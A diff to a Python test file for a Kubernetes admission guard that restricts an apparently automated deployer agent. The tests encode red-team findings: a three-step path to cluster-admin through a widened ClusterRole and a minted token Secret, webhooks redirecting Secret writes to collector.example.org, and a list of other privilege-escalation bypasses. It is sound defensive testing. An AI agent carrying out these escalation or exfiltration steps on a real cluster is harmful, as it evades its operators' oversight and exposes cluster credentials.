@@ -22,6 +22,7 @@ from components.access.chart_objects import (
     ChartClusterObjects,
     chart_cluster_objects,
     enabled_releases,
+    program_objects,
 )
 from components.config.base import ConfigError
 from tests.admission import BINDING, POLICY, AdmissionPolicy, Decision, Request
@@ -32,7 +33,16 @@ from tools.mockrun import Recording
 
 DEPLOYER_USER = "system:serviceaccount:deployer:deployer"
 ADMIN_USER = "kubernetes-admin"
-CHARTS = chart_cluster_objects(CHART_CLUSTER_OBJECTS)
+CHARTS = chart_cluster_objects(enabled_releases(stack_config()), program_objects(stack_config()))
+#: The rules the pinned prometheus chart renders for its server's ClusterRole.
+PROMETHEUS_SERVER_RULES = [
+    {k: v for k, v in rule.items() if v}
+    for rule in CHART_CLUSTER_OBJECTS["prometheus"].role_rules["clusterroles//prometheus-server"]
+]
+HUB_ROLE_RULES = [
+    {k: v for k, v in rule.items() if v}
+    for rule in CHART_CLUSTER_OBJECTS["binderhub"].role_rules["roles/binder/hub"]
+]
 
 
 @pytest.fixture(scope="module")
@@ -77,13 +87,14 @@ def rb(namespace: str, subjects: list[dict[str, Any]], op: str = "CREATE") -> Re
     )
 
 
-def webhook(resource: str, name: str, op: str = "CREATE") -> Request:
+def webhook(resource: str, name: str, op: str = "CREATE",
+            hooks: list[dict[str, Any]] | None = None) -> Request:
     kind = "Mutating" if resource.startswith("mutating") else "Validating"
     obj = {
         "apiVersion": "admissionregistration.k8s.io/v1",
         "kind": f"{kind}WebhookConfiguration",
         "metadata": {"name": name},
-        "webhooks": [],
+        "webhooks": hooks or [],
     }
     return Request(op, "admissionregistration.k8s.io", resource, DEPLOYER_USER, object=obj,
                    old_object=obj if op == "UPDATE" else None)
@@ -91,14 +102,22 @@ def webhook(resource: str, name: str, op: str = "CREATE") -> Request:
 
 def role(
     resource: str, labels: dict[str, str] | None = None, op: str = "UPDATE",
-    namespace: str = "", **extra: Any,
+    namespace: str = "", rules: list[dict[str, Any]] | None = None, name: str = "",
+    **extra: Any,
 ) -> Request:
-    meta: dict[str, Any] = {"name": "prometheus-server"}
+    """A chart's own role as its chart renders it (``prometheus-server``, or ``hub`` in
+    ``binder`` for a Role), with ``labels``, ``rules`` or ``extra`` fields changed."""
+    name = name or ("hub" if resource == "roles" else "prometheus-server")
+    own = HUB_ROLE_RULES if resource == "roles" else PROMETHEUS_SERVER_RULES
+    meta: dict[str, Any] = {"name": name}
+    if namespace:
+        meta["namespace"] = namespace
     if labels is not None:
         meta["labels"] = labels
-    obj = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
-           "metadata": meta, "rules": [], **extra}
-    old = {**obj, "metadata": {"name": "prometheus-server"}}
+    kind = "Role" if resource == "roles" else "ClusterRole"
+    obj = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": kind,
+           "metadata": meta, "rules": own if rules is None else rules, **extra}
+    old = {**obj, "metadata": {"name": name}, "rules": own}
     return Request(op, RBAC, resource, DEPLOYER_USER, namespace=namespace, object=obj,
                    old_object=old if op == "UPDATE" else None)
 
@@ -157,18 +176,30 @@ def test_the_policy_objects_pass_strict_validation(rec: Recording, version: str)
 
 
 def test_names_come_from_chart_objects_of_the_enabled_releases() -> None:
-    """One source of truth: the policy's lists are chart_objects' for the stack's releases."""
+    """One source of truth: the policy's lists are chart_objects' for the stack's releases
+    and the program's own objects."""
     cfg = stack_config(monitoring={"enabled": False}, logging={"enabled": False}, users=[])
     rec, _ = run_bootstrap(cfg)
     spec = AdmissionPolicy.from_recording(rec).spec
     variables = {v["name"]: v["expression"] for v in spec["variables"]}
-    charts = chart_cluster_objects(enabled_releases(cfg))
+    charts = chart_cluster_objects(enabled_releases(cfg), program_objects(cfg))
     assert variables["chartAccounts"] == "[" + ", ".join(
         f'"{a}"' for a in sorted(charts.service_accounts)
     ) + "]"
     assert "monitoring/prometheus-server" not in variables["chartAccounts"]
     assert "binder/hub" in variables["chartAccounts"]
-    assert variables["webhookNames"] == '["cert-manager-webhook"]'
+    assert '"cert-manager-webhook"' in variables["webhooks"]
+    assert "clusterroles//prometheus-server" not in variables["roleRules"]
+    assert "clusterroles//cert-manager-cainjector" in variables["roleRules"]
+    crds = ", ".join(f'"customresourcedefinitions/{name}"' for name in (
+        "certificaterequests.cert-manager.io", "certificates.cert-manager.io",
+        "challenges.acme.cert-manager.io", "clusterissuers.cert-manager.io",
+        "issuers.cert-manager.io", "orders.acme.cert-manager.io"))
+    assert variables["clusterNames"] == (
+        '["clusterissuers/letsencrypt-production", "clusterissuers/letsencrypt-staging", '
+        f'{crds}, "ingressclasses/traefik", "priorityclasses/binderhub-default-priority", '
+        '"priorityclasses/binderhub-user-placeholder-priority"]'
+    )
 
 
 def test_no_guard_when_the_agent_is_cluster_admin() -> None:
@@ -288,7 +319,60 @@ def test_allowed_the_charts_webhook_configuration(
 def test_refused_a_webhook_configuration_of_another_name(
     guard: AdmissionPolicy, resource: str
 ) -> None:
-    refused(guard.decide(webhook(resource, "intercept-secrets")), "webhook-names")
+    refused(guard.decide(webhook(resource, "intercept-secrets")), "webhooks")
+
+
+def hook(service: dict[str, str] | None = None, url: str | None = None,
+         groups: tuple[str, ...] = ("cert-manager.io",),
+         resources: tuple[str, ...] = ("*/*",)) -> dict[str, Any]:
+    client: dict[str, Any] = {}
+    if service is not None:
+        client["service"] = service
+    if url is not None:
+        client["url"] = url
+    return {"name": "webhook.cert-manager.io", "clientConfig": client, "sideEffects": "None",
+            "admissionReviewVersions": ["v1"],
+            "rules": [{"apiGroups": list(groups), "apiVersions": ["v1"],
+                       "operations": ["CREATE", "UPDATE"], "resources": list(resources)}]}
+
+
+CERT_MANAGER_SERVICE = {"namespace": "cert-manager", "name": "cert-manager-webhook"}
+
+
+@pytest.mark.parametrize(
+    "resource", ["mutatingwebhookconfigurations", "validatingwebhookconfigurations"]
+)
+def test_allowed_the_charts_webhook_calling_its_own_service(
+    guard: AdmissionPolicy, resource: str
+) -> None:
+    both = ("cert-manager.io", "acme.cert-manager.io")
+    allowed(guard.decide(webhook(resource, "cert-manager-webhook", "UPDATE",
+                                 [hook(CERT_MANAGER_SERVICE, groups=both)])))
+
+
+@pytest.mark.parametrize(
+    ("what", "hooks"),
+    [
+        # The red team's variant: the chart's name, rewritten to send Secret writes elsewhere.
+        ("core Secrets to the chart's Service",
+         [hook(CERT_MANAGER_SERVICE, groups=("",), resources=("secrets",))]),
+        ("every group", [hook(CERT_MANAGER_SERVICE, groups=("*",))]),
+        ("a URL instead of the Service", [hook(url="https://collector.example.org/")]),
+        ("a URL beside the Service",
+         [hook({**CERT_MANAGER_SERVICE}, url="https://collector.example.org/")]),
+        ("another Service", [hook({"namespace": "binder", "name": "binder"})]),
+        ("the chart's Service name in another namespace",
+         [hook({"namespace": "binder", "name": "cert-manager-webhook"})]),
+        ("one good webhook and one that is not",
+         [hook(CERT_MANAGER_SERVICE), hook(CERT_MANAGER_SERVICE, groups=("apps",))]),
+    ],
+)
+def test_refused_the_charts_webhook_rewritten(
+    guard: AdmissionPolicy, what: str, hooks: list[dict[str, Any]]
+) -> None:
+    for resource in ("mutatingwebhookconfigurations", "validatingwebhookconfigurations"):
+        refused(guard.decide(webhook(resource, "cert-manager-webhook", "UPDATE", hooks)),
+                "webhooks")
 
 
 # ---- roles ----------------------------------------------------------------------------------
@@ -302,6 +386,89 @@ def test_allowed_a_chart_role_with_ordinary_labels(guard: AdmissionPolicy) -> No
 
 def test_allowed_a_role_without_labels(guard: AdmissionPolicy) -> None:
     allowed(guard.decide(role("clusterroles", None, op="CREATE")))
+
+
+def test_allowed_a_chart_role_with_fewer_or_reordered_rules(guard: AdmissionPolicy) -> None:
+    allowed(guard.decide(role("clusterroles", rules=PROMETHEUS_SERVER_RULES[::-1])))
+    allowed(guard.decide(role("clusterroles", rules=PROMETHEUS_SERVER_RULES[:1])))
+    allowed(guard.decide(role("clusterroles", rules=[])))
+    first = PROMETHEUS_SERVER_RULES[0]
+    narrower = {**first, "verbs": first["verbs"][:1]}
+    allowed(guard.decide(role("clusterroles", rules=[narrower])))
+
+
+EVERYTHING = {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}
+
+
+@pytest.mark.parametrize(
+    ("what", "rules"),
+    [
+        # Step one of the red team's three-step path to cluster-admin (issue 20).
+        ("grant everything", [*PROMETHEUS_SERVER_RULES, EVERYTHING]),
+        ("read every Secret", [{"apiGroups": [""], "resources": ["secrets"],
+                                "verbs": ["get", "list"]}]),
+        ("mint tokens", [{"apiGroups": [""], "resources": ["serviceaccounts/token"],
+                          "verbs": ["create"]}]),
+        ("one more verb on its own resources",
+         [{**PROMETHEUS_SERVER_RULES[0], "verbs": [*PROMETHEUS_SERVER_RULES[0]["verbs"],
+                                                   "delete"]}]),
+        ("its resources in another group",
+         [{**PROMETHEUS_SERVER_RULES[0], "apiGroups": ["apps"]}]),
+        ("a wildcard verb", [{**PROMETHEUS_SERVER_RULES[0], "verbs": ["*"]}]),
+        ("every non-resource URL", [{"nonResourceURLs": ["*"], "verbs": ["get"]}]),
+        ("impersonation", [{"apiGroups": [""], "resources": ["users", "groups",
+                                                           "serviceaccounts"],
+                            "verbs": ["impersonate"]}]),
+    ],
+)
+def test_refused_a_chart_cluster_role_holding_a_rule_its_chart_does_not_render(
+    guard: AdmissionPolicy, what: str, rules: list[dict[str, Any]]
+) -> None:
+    for op in ("CREATE", "UPDATE"):
+        refused(guard.decide(role("clusterroles", op=op, rules=rules)), "role-rules")
+
+
+def test_refused_a_chart_role_holding_a_rule_its_chart_does_not_render(
+    guard: AdmissionPolicy,
+) -> None:
+    # The hub may manage user pods and their Secrets; not DaemonSets (privileged, every node).
+    rules = [*HUB_ROLE_RULES, {"apiGroups": ["apps"], "resources": ["daemonsets"],
+                               "verbs": ["create"]}]
+    refused(guard.decide(role("roles", namespace="binder", rules=rules)), "role-rules")
+
+
+def test_a_resource_name_limit_cannot_be_dropped(guard: AdmissionPolicy) -> None:
+    """A chart rule limited to names (cert-manager's leader-election lease) may not lose the
+    limit: a rule without resourceNames covers every name."""
+    key = "roles/cert-manager/cert-manager:leaderelection"
+    named = [r for r in CHART_CLUSTER_OBJECTS["cert-manager"].role_rules[key]
+             if r["resourceNames"]]
+    assert named, "the chart limits its leader-election lease by name"
+    rule = {k: v for k, v in named[0].items() if v and k != "resourceNames"}
+    request = role("roles", namespace="cert-manager", name="cert-manager:leaderelection",
+                   op="CREATE", rules=[rule])
+    refused(guard.decide(request), "role-rules")
+    allowed(guard.decide(role("roles", namespace="cert-manager", op="CREATE",
+                              name="cert-manager:leaderelection",
+                              rules=[{k: v for k, v in named[0].items() if v}])))
+
+
+@pytest.mark.parametrize(
+    ("resource", "namespace", "name"),
+    [
+        ("clusterroles", "", "backdoor"),
+        ("clusterroles", "", "cluster-admin"),
+        ("clusterroles", "", "binder:deployer:deployer"),
+        ("roles", "binder", "backdoor"),
+        # A chart's Role name, in a namespace its chart does not render it in.
+        ("roles", "monitoring", "hub"),
+    ],
+)
+def test_refused_a_role_no_chart_renders(
+    guard: AdmissionPolicy, resource: str, namespace: str, name: str
+) -> None:
+    refused(guard.decide(role(resource, op="CREATE", namespace=namespace, name=name, rules=[])),
+            "role-rules")
 
 
 @pytest.mark.parametrize("target", ["view", "edit", "admin", "cluster-reader"])
@@ -337,23 +504,23 @@ def test_allowed_ordinary_secrets(guard: AdmissionPolicy) -> None:
                                  object=untyped)))
 
 
-def test_allowed_a_token_secret_for_a_chart_account(guard: AdmissionPolicy) -> None:
-    allowed(guard.decide(secret("binder", TOKEN, {SA_NAME: "hub"})))
-
-
-def test_refused_a_token_secret_for_another_account(guard: AdmissionPolicy) -> None:
-    refused(guard.decide(secret("binder", TOKEN, {SA_NAME: "default"})), "token-secrets")
-
-
-def test_refused_a_token_secret_for_a_chart_account_in_another_namespace(
-    guard: AdmissionPolicy,
+@pytest.mark.parametrize(
+    ("namespace", "annotations"),
+    [
+        # Step two of the red team's path: a token for the chart's own ServiceAccount, which
+        # the agent could then read (step three) and keep after its own token is revoked.
+        ("monitoring", {SA_NAME: "prometheus-server"}),
+        ("binder", {SA_NAME: "hub"}),
+        ("binder", {SA_NAME: "default"}),
+        ("logging", {SA_NAME: "hub"}),
+        ("binder", None),
+        ("binder", {"other": "x"}),
+    ],
+)
+def test_refused_every_token_secret(
+    guard: AdmissionPolicy, namespace: str, annotations: dict[str, str] | None
 ) -> None:
-    refused(guard.decide(secret("logging", TOKEN, {SA_NAME: "hub"})), "token-secrets")
-
-
-def test_refused_a_token_secret_without_its_account(guard: AdmissionPolicy) -> None:
-    refused(guard.decide(secret("binder", TOKEN)), "token-secrets")
-    refused(guard.decide(secret("binder", TOKEN, {"other": "x"})), "token-secrets")
+    refused(guard.decide(secret(namespace, TOKEN, annotations)), "no-token-secrets")
 
 
 # ---- namespaces: their Pod Security labels -------------------------------------------------
@@ -412,3 +579,171 @@ def test_the_evaluator_reports_an_expression_error_as_a_refusal() -> None:
     assert decision.matched
     assert not decision.allowed
     assert decision.refused[0].startswith("error:")
+
+
+# ---- the program's and the charts' cluster-scoped objects ---------------------------------
+
+
+def cluster_object(resource: str, name: str, op: str = "CREATE", **spec: Any) -> Request:
+    group, kind = {
+        "ingressclasses": ("networking.k8s.io", "IngressClass"),
+        "priorityclasses": ("scheduling.k8s.io", "PriorityClass"),
+        "clusterissuers": ("cert-manager.io", "ClusterIssuer"),
+        "customresourcedefinitions": ("apiextensions.k8s.io", "CustomResourceDefinition"),
+    }[resource]
+    obj = {"apiVersion": f"{group}/v1", "kind": kind, "metadata": {"name": name}, **spec}
+    return Request(op, group, resource, DEPLOYER_USER, object=obj,
+                   old_object=obj if op == "UPDATE" else None)
+
+
+@pytest.mark.parametrize(
+    ("resource", "name"),
+    [
+        ("ingressclasses", "traefik"),
+        ("priorityclasses", "binderhub-default-priority"),
+        ("priorityclasses", "binder-node-critical"),
+        ("clusterissuers", "letsencrypt-staging"),
+        ("clusterissuers", "letsencrypt-production"),
+        ("customresourcedefinitions", "certificates.cert-manager.io"),
+    ],
+)
+def test_allowed_our_own_cluster_objects(guard: AdmissionPolicy, resource: str, name: str) -> None:
+    for op in ("CREATE", "UPDATE"):
+        allowed(guard.decide(cluster_object(resource, name, op, value=1000)
+                             if resource == "priorityclasses"
+                             else cluster_object(resource, name, op)))
+
+
+@pytest.mark.parametrize(
+    ("resource", "name"),
+    [
+        ("ingressclasses", "nginx"),
+        ("priorityclasses", "system-cluster-critical"),
+        ("priorityclasses", "backdoor"),
+        ("clusterissuers", "letsencrypt"),
+        ("clusterissuers", "backdoor-ca"),
+        # Traefik's CRDs come from its crds/ directory: installed once, never by the agent.
+        ("customresourcedefinitions", "ingressroutes.traefik.io"),
+        ("customresourcedefinitions", "backdoors.example.org"),
+    ],
+)
+def test_refused_cluster_objects_that_are_not_ours(
+    guard: AdmissionPolicy, resource: str, name: str
+) -> None:
+    refused(guard.decide(cluster_object(resource, name)), "named-cluster-objects")
+
+
+def test_refused_a_default_priority_class(guard: AdmissionPolicy) -> None:
+    """A globalDefault PriorityClass would set every new pod's priority, cluster-wide."""
+    request = cluster_object("priorityclasses", "binderhub-default-priority", "UPDATE",
+                             value=1000, globalDefault=True)
+    refused(guard.decide(request), "no-default-priority")
+    allowed(guard.decide(cluster_object("priorityclasses", "binderhub-default-priority",
+                                        value=1000, globalDefault=False)))
+
+
+# ---- the red team's findings, as tests --------------------------------------------------
+
+
+def test_the_three_step_path_to_cluster_admin_is_refused_at_its_first_two_steps(
+    guard: AdmissionPolicy,
+) -> None:
+    """Issue 20: (1) rewrite the prometheus-server ClusterRole to grant everything, (2) create
+    a service-account-token Secret for prometheus-server, (3) read it. Step three needs the
+    first two (the agent may read Secrets in monitoring, where Helm keeps its records)."""
+    refused(guard.decide(role("clusterroles", rules=[EVERYTHING])), "role-rules")
+    refused(guard.decide(secret("monitoring", TOKEN, {SA_NAME: "prometheus-server"})),
+            "no-token-secrets")
+
+
+def _sa_user(namespace: str, name: str) -> dict[str, Any]:
+    return {"kind": "User", "name": f"system:serviceaccount:{namespace}:{name}", "apiGroup": RBAC}
+
+
+#: Attempts to get past the guard that must fail, each with the check that stops it: kept as
+#: tests so that no later change reopens one. (request builder, check)
+BYPASSES: list[tuple[str, Any, str]] = [
+    ("a User named like a chart ServiceAccount",
+     lambda: crb([_sa_user("monitoring", "prometheus-server")]), "binding-subjects"),
+    ("the group of every ServiceAccount of a namespace",
+     lambda: crb([{"kind": "Group", "name": "system:serviceaccounts:monitoring",
+                   "apiGroup": RBAC}]), "binding-subjects"),
+    ("the group of every ServiceAccount",
+     lambda: crb([{"kind": "Group", "name": "system:serviceaccounts", "apiGroup": RBAC}]),
+     "binding-subjects"),
+    ("a ClusterRoleBinding subject without a namespace",
+     lambda: crb([sa("prometheus-server")]), "binding-subjects"),
+    ("a subject with an empty namespace in a ClusterRoleBinding",
+     lambda: crb([sa("prometheus-server", "")]), "binding-subjects"),
+    ("a ServiceAccount of the same name in kube-system",
+     lambda: crb([sa("prometheus-server", "kube-system")]), "binding-subjects"),
+    ("a subject kind in lower case", lambda: crb([{"kind": "serviceaccount",
+                                                   "name": "prometheus-server",
+                                                   "namespace": "monitoring"}]),
+     "binding-subjects"),
+    ("a chart account named with a path",
+     lambda: crb([sa("monitoring/prometheus-server", "")]), "binding-subjects"),
+    ("an unrendered z2jh account (the image puller)",
+     lambda: rb("binder", [sa("hook-image-puller", "binder")]), "binding-subjects"),
+    ("an unrendered z2jh account (autohttps)",
+     lambda: rb("binder", [sa("autohttps", "binder")]), "binding-subjects"),
+    ("a chart role rewritten to grant everything",
+     lambda: role("clusterroles", rules=[EVERYTHING]), "role-rules"),
+    ("a new ClusterRole with no rules, bound later",
+     lambda: role("clusterroles", op="CREATE", name="later", rules=[]), "role-rules"),
+    ("a chart ClusterRole's rules under a new name",
+     lambda: role("clusterroles", op="CREATE", name="prometheus-server-2"), "role-rules"),
+    ("a role aggregated into admin",
+     lambda: role("clusterroles", {f"{AGGREGATION_LABEL_PREFIX}admin": "true"}),
+     "no-aggregation-labels"),
+    ("an aggregating ClusterRole",
+     lambda: role("clusterroles", aggregationRule={"clusterRoleSelectors": [{}]}),
+     "no-aggregation-rule"),
+    ("a webhook named like the chart's, calling out",
+     lambda: webhook("validatingwebhookconfigurations", "cert-manager-webhook", "UPDATE",
+                     [hook(url="https://collector.example.org/")]), "webhooks"),
+    ("a webhook intercepting Secrets",
+     lambda: webhook("mutatingwebhookconfigurations", "cert-manager-webhook", "UPDATE",
+                     [hook(CERT_MANAGER_SERVICE, groups=("",), resources=("secrets",))]),
+     "webhooks"),
+    ("a webhook of a new name",
+     lambda: webhook("mutatingwebhookconfigurations", "cert-manager-webhook-2"), "webhooks"),
+    ("a token Secret for the agent's own account",
+     lambda: secret("deployer", TOKEN, {SA_NAME: "deployer"}), "no-token-secrets"),
+    ("a token Secret for a chart account",
+     lambda: secret("cert-manager", TOKEN, {SA_NAME: "cert-manager"}), "no-token-secrets"),
+    ("a Pod Security level relaxed",
+     lambda: ns_update(PSA, {**PSA, "pod-security.kubernetes.io/enforce": "privileged"}),
+     "pod-security-labels"),
+    ("a Pod Security label removed", lambda: ns_update(PSA, {}), "pod-security-labels"),
+    ("an IngressClass made the default for every Ingress",
+     lambda: cluster_object("ingressclasses", "nginx",
+                            metadata={"name": "nginx", "annotations": {
+                                "ingressclass.kubernetes.io/is-default-class": "true"}}),
+     "named-cluster-objects"),
+    ("a PriorityClass above everything",
+     lambda: cluster_object("priorityclasses", "override", value=2000000000),
+     "named-cluster-objects"),
+    ("a ClusterIssuer of our own CA",
+     lambda: cluster_object("clusterissuers", "internal-ca", spec={"ca": {"secretName": "x"}}),
+     "named-cluster-objects"),
+    ("a CRD of a new name",
+     lambda: cluster_object("customresourcedefinitions", "collectors.example.org"),
+     "named-cluster-objects"),
+    ("a chart CRD converted by a webhook that calls out",
+     lambda: cluster_object("customresourcedefinitions", "certificates.cert-manager.io",
+                            "UPDATE", spec={"conversion": {"strategy": "Webhook", "webhook": {
+                                "clientConfig": {"url": "https://collector.example.org/"},
+                                "conversionReviewVersions": ["v1"]}}}),
+     "no-conversion-webhook"),
+    ("a default PriorityClass of our name",
+     lambda: cluster_object("priorityclasses", "binder-node-critical", value=1,
+                            globalDefault=True), "no-default-priority"),
+]
+
+
+@pytest.mark.parametrize(("what", "request_of", "check"), BYPASSES, ids=[b[0] for b in BYPASSES])
+def test_a_bypass_attempt_is_refused(
+    guard: AdmissionPolicy, what: str, request_of: Any, check: str
+) -> None:
+    refused(guard.decide(request_of()), check)
